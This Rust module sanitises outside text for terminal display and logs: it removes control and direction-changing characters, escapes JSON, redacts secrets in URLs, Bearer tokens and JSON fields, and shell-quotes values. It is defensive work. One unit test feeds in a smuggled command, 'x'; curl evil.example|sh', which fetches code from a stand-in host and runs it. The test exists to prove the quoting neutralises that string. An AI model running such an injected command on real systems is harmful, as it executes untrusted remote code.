//! Text from outside, made fit to be shown: no control character reaches the terminal, and no secret.

use std::fmt::Write as _;

use serde_json::Value;

/// What stands for a secret.
pub(crate) const HIDDEN: &str = "***";

/// Parts of names whose values are secrets.
const SECRET_PARTS: [&str; 10] = [
    "password",
    "passwd",
    "secret",
    "token",
    "apikey",
    "api_key",
    "signature",
    "credential",
    "authorization",
    "access_key",
];

/// Whole names whose values are secrets.
const SECRET_NAMES: [&str; 5] = ["auth", "key", "pwd", "sig", "cookie"];

/// Whether a character may change what a terminal shows around it: control characters, and those that turn the
/// direction of writing or break lines.
const fn is_unsafe(c: char) -> bool {
    matches!(
        c,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{61c}' | '\u{200b}'..='\u{200f}'
            | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}'
    )
}

/// One line of text that is safe to print: line feeds and tabs become spaces, other control characters `�`.
pub(crate) fn clean(text: &str) -> String {
    let safe = |c: char| match c {
        '\n' | '\r' | '\t' => ' ',
        c if is_unsafe(c) => char::REPLACEMENT_CHARACTER,
        c => c,
    };
    text.chars().map(safe).collect()
}

/// Several lines that are safe to print.
pub(crate) fn clean_lines(text: &str) -> String {
    text.split('\n').map(clean).collect::<Vec<String>>().join("\n")
}

/// JSON text in which every unsafe character within a text is written as an escape sequence, so that nothing is lost.
/// Outside texts, JSON has no such characters but line feeds.
pub(crate) fn escape_json(json: &str) -> String {
    let mut escaped = String::with_capacity(json.len());
    for c in json.chars() {
        if c != '\n' && is_unsafe(c) {
            // All of them are in the basic multilingual plane: one unit of UTF-16.
            // Writing into a text does not fail.
            let _ = write!(escaped, "\\u{:04x}", u32::from(c));
        } else {
            escaped.push(c);
        }
    }
    escaped
}

/// Names of fields whose values are hidden besides those with telling names: those that a job type calls sensitive.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Sensitive(Vec<String>);

impl Sensitive {
    /// Fields with these names.
    pub(crate) const fn new(names: Vec<String>) -> Self {
        Self(names)
    }

    /// Whether the values of fields with this name are hidden.
    pub(crate) fn has(&self, name: &str) -> bool {
        self.0.iter().any(|sensitive| sensitive == name)
    }
}

/// Whether the value of a parameter or field with this name is a secret.
fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_lowercase().replace('-', "_");
    SECRET_NAMES.contains(&name.as_str()) || SECRET_PARTS.iter().any(|part| name.contains(part))
}

/// Where a word of a text ends that may be an address.
const fn ends_word(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`')
}

/// The text without the secrets that it may contain: user names and passwords in addresses, values of query parameters
/// and of quoted JSON fields with telling names, and tokens after `Bearer`.
pub(crate) fn redact(text: &str) -> String {
    redact_with(text, &Sensitive::default())
}

/// The same, also without the values of quoted JSON fields that a job type calls sensitive.
fn redact_with(text: &str, sensitive: &Sensitive) -> String {
    let text = &without_secret_fields(text, Values::Quoted, sensitive);
    let mut redacted = String::with_capacity(text.len());
    let mut hide_next = false;
    for piece in text.split_inclusive(ends_word) {
        let word = piece.trim_end_matches(ends_word);
        let end = &piece[word.len()..];
        if hide_next && !word.is_empty() {
            redacted.push_str(HIDDEN);
        } else {
            redacted.push_str(&redact_word(word));
        }
        hide_next = word.eq_ignore_ascii_case("bearer") || (hide_next && word.is_empty());
        redacted.push_str(end);
    }
    redacted
}

fn redact_word(word: &str) -> String {
    let Some((scheme, rest)) = word.split_once("://") else { return word.to_owned() };
    // An address in the query of another one, for instance.
    if let Some(at) = rest.find("://") {
        let begin =
            rest[..at].rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |last| last + 1);
        let outer = redact_word(&format!("{scheme}://{}", &rest[..begin]));
        return outer + &redact_word(&rest[begin..]);
    }
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, path) = rest.split_at(authority_end);
    let host = authority
        .rsplit_once('@')
        .map_or_else(|| authority.to_owned(), |(_, host)| format!("{HIDDEN}@{host}"));
    let path = match path.split_once('?') {
        Some((path, query)) => format!("{path}?{}", redact_query(query)),
        None => path.to_owned(),
    };
    format!("{scheme}://{host}{path}")
}

fn redact_query(query: &str) -> String {
    let (query, fragment) = query.split_once('#').map_or((query, None), |(q, f)| (q, Some(f)));
    let hide = |pair: &str| match pair.split_once('=') {
        Some((name, _)) if is_secret(name) => format!("{name}={HIDDEN}"),
        _ => pair.to_owned(),
    };
    let pairs: Vec<String> = query.split('&').map(hide).collect();
    let fragment = fragment.map(|fragment| format!("#{fragment}")).unwrap_or_default();
    pairs.join("&") + &fragment
}

/// A value as one word of a POSIX shell, whatever is in it.
pub(crate) fn quoted(value: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./:#@%+=,".contains(c);
    if !value.is_empty() && value.chars().all(is_plain) && !value.starts_with('#') {
        return value.to_owned();
    }
    format!("'{}'", value.replace('\'', r"'\''"))
}

/// A JSON value whose texts are redacted, and all values under telling names hidden.
pub(crate) fn redact_value(value: Value) -> Value {
    redact_value_with(value, &Sensitive::default())
}

fn redact_value_with(value: Value, sensitive: &Sensitive) -> Value {
    let below = |value| redact_value_with(value, sensitive);
    match value {
        Value::String(text) => Value::String(redact_with(&text, sensitive)),
        Value::Array(values) => values.into_iter().map(below).collect(),
        Value::Object(fields) => {
            let hide = |(name, value): (String, Value)| {
                let hidden = (is_secret(&name) || sensitive.has(&name)) && !value.is_null();
                let value = if hidden { Value::from(HIDDEN) } else { below(value) };
                (name, value)
            };
            Value::Object(fields.into_iter().map(hide).collect())
        }
        other => other,
    }
}

/// JSON of a record as a redacted value; text that is not JSON becomes a redacted text.
pub(crate) fn json(text: &str) -> Value {
    json_with(text, &Sensitive::default())
}

/// The same, also without the values of fields that a job type calls sensitive.
pub(crate) fn json_with(text: &str, sensitive: &Sensitive) -> Value {
    let broken = |_| {
        let text = without_secret_fields(text, Values::All, sensitive);
        Value::String(redact_with(&text, sensitive))
    };
    let whole = |value| redact_value_with(value, sensitive);
    serde_json::from_str(text).map_or_else(broken, whole)
}

/// Which values behind a telling name are hidden.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Values {
    /// Texts in quotation marks: in a sentence, anything else may be the rest of the sentence.
    Quoted,
    /// All: the text is JSON that was cut off.
    All,
}

/// Text that is almost JSON, such as a body that was cut off or a sentence that quotes one: what follows a telling name
/// is hidden up to the end of its value, or to the end of the text if that is not clear. JSON within a text of JSON has
/// escaped quotation marks, and is recognized as well.
fn without_secret_fields(text: &str, values: Values, sensitive: &Sensitive) -> String {
    let mut shown = String::with_capacity(text.len());
    // Up to where the text is in `shown`, up to where it was searched, and what comes after the last quotation mark.
    let (mut from, mut at, mut opened) = (0, 0, None);
    while let Some(mark) = text[at..].find('"').map(|place| at + place) {
        at = mark + 1;
        let name = opened.replace(at).map(|open: usize| text[open..mark].trim_end_matches('\\'));
        let value = text[at..].trim_start().strip_prefix(':').map(str::trim_start);
        let (Some(name), Some(value)) = (name, value) else { continue };
        let is_text = value.trim_start_matches('\\').starts_with('"');
        let is_hidden = is_secret(name) || sensitive.has(name);
        if !is_hidden || (values == Values::Quoted && !is_text) {
            continue;
        }
        shown.push_str(&text[from..at]);
        shown.push(':');
        shown.push_str(HIDDEN);
        from = text.len() - behind_value(value).len();
        (at, opened) = (from, None);
    }
    shown + &text[from..]
}

/// What comes after a JSON value; nothing if its end is not clear.
fn behind_value(value: &str) -> &str {
    let unescaped = value.trim_start_matches('\\');
    let level = value.len() - unescaped.len();
    if let Some(text) = unescaped.strip_prefix('"') {
        let mut backslashes = 0;
        let end = text.find(|c: char| {
            let is_end = if level == 0 { backslashes % 2 == 0 } else { backslashes == level };
            backslashes = if c == '\\' { backslashes + 1 } else { 0 };
            c == '"' && is_end
        });
        return end.map_or("", |end| &text[end + 1..]);
    }
    if value.starts_with(['{', '[']) {
        return "";
    }
    value.find([',', '}']).map_or("", |end| &value[end..])
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn no_control_character_reaches_the_terminal() {
        assert_eq!(clean("a\u{1b}[31mred\u{7}\nb\u{202e}c\u{9b}d"), "a�[31mred� b�c�d");
        assert_eq!(clean("Müller 車 ✓"), "Müller 車 ✓");
    }

    #[test]
    fn escaped_json_is_the_same_value() {
        let value = json!({"a": "x\u{9b}31m\u{202e}\u{7f}", "b": "Müller"});
        let text = serde_json::to_string_pretty(&value).unwrap();
        let escaped = escape_json(&text);
        assert!(!escaped.chars().any(|c| c != '\n' && is_unsafe(c)), "{escaped}");
        assert_eq!(serde_json::from_str::<Value>(&escaped).unwrap(), value);
    }

    #[test]
    fn secrets_of_addresses_are_hidden_and_nothing_else() {
        let cases = [
            ("https://u:p@a.example/x?y=1", "https://***@a.example/x?y=1"),
            (
                "GET https://a.example/?a=1&X-Amz-Signature=abc&token=t#top failed",
                "GET https://a.example/?a=1&X-Amz-Signature=***&token=***#top failed",
            ),
            ("sent 'https://a.example/?key=1'", "sent 'https://a.example/?key=***'"),
            ("Authorization: Bearer abc.def next", "Authorization: Bearer *** next"),
            ("mail a@b.example, 3 of 4 calls failed", "mail a@b.example, 3 of 4 calls failed"),
            ("https://a.example/@user/page", "https://a.example/@user/page"),
            ("https://a.example/?u=https://u:p@h/", "https://a.example/?u=https://***@h/"),
            (r#"sent {"apikey": "a\"b", "vin": "1"}"#, r#"sent {"apikey":***, "vin": "1"}"#),
            (r#"{\"apikey\":\"a\\\"b\"} is no id"#, r#"{\"apikey\":***} is no id"#),
            (r#""token": expected a text"#, r#""token": expected a text"#),
        ];
        for (text, expected) in cases {
            assert_eq!(redact(text), expected);
        }
    }

    #[test]
    fn a_value_is_one_word_of_a_shell() {
        for (value, word) in [
            ("url_shortening#g:a-1", "url_shortening#g:a-1"),
            ("two words", "'two words'"),
            ("x'; curl evil.example|sh", r"'x'\''; curl evil.example|sh'"),
            ("", "''"),
            ("#comment", "'#comment'"),
        ] {
            assert_eq!(quoted(value), word);
        }
    }

    #[test]
    fn fields_with_telling_names_are_hidden_at_any_depth() {
        let payload =
            r#"{"vin":"1","auth":{"user":"u"},"site":[{"api-key":"k","url":"https://u:p@h/"}]}"#;
        let site = json!([{ "api-key": "***", "url": "https://***@h/" }]);
        let hidden = json!({ "vin": "1", "auth": "***", "site": site });
        assert_eq!(json(payload), hidden);
        assert_eq!(json("not json https://u:p@h/"), json!("not json https://***@h/"));
        let sensitive = Sensitive::new(vec!["vin".to_owned()]);
        let hidden = json!({ "vin": "***", "auth": "***", "site": hidden["site"] });
        assert_eq!(json_with(payload, &sensitive), hidden);
        let quoting = r#"{"why":"refused {\"vin\":\"1\"}"#;
        assert_eq!(json_with(quoting, &sensitive), json!(r#"{"why":"refused {\"vin\":***}"#));
        let cut = r#"{"payload": {"api_key": "sk_1", "vin": "1", "token":"sk_2"#;
        assert_eq!(json(cut), json!(r#"{"payload": {"api_key":***, "vin": "1", "token":***"#));
    }
}
